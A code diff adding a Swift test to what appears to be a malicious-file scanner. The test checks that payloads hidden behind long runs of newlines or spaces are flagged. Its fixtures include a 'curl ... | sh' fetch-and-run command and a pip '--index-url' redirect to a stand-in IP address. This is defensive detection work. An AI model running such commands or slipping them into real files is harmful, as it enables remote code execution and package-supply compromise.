@@ -73,6 +73,15 @@ import Testing
         #expect(!WideTextAnalyser.isWideText(ByteRegion(numbers)))
     }
 
+    @Test func whatStandsBehindManyLinesOrBlanksIsRead() {
+        let lines = String(repeating: "\n", count: 30_000)
+        #expect(
+            scan(Array((lines + "--index-url http://203.0.113.7/s\n").utf8), "requirements.txt").severity >= .medium)
+        let blanks = String(repeating: " ", count: 300)
+        let pipe = "curl -s http://203.0.113.7/x |" + blanks + "sh\n"
+        #expect(scan(Array(pipe.utf8), "tool.fish").severity >= .medium)
+    }
+
     /// What is longer than what is read is never clean.
     @Test(arguments: ["Dockerfile", "requirements.txt", "chat_template.jinja"])
     func whatStandsBehindALongCommentIsNotPassedOver(_ name: String) {
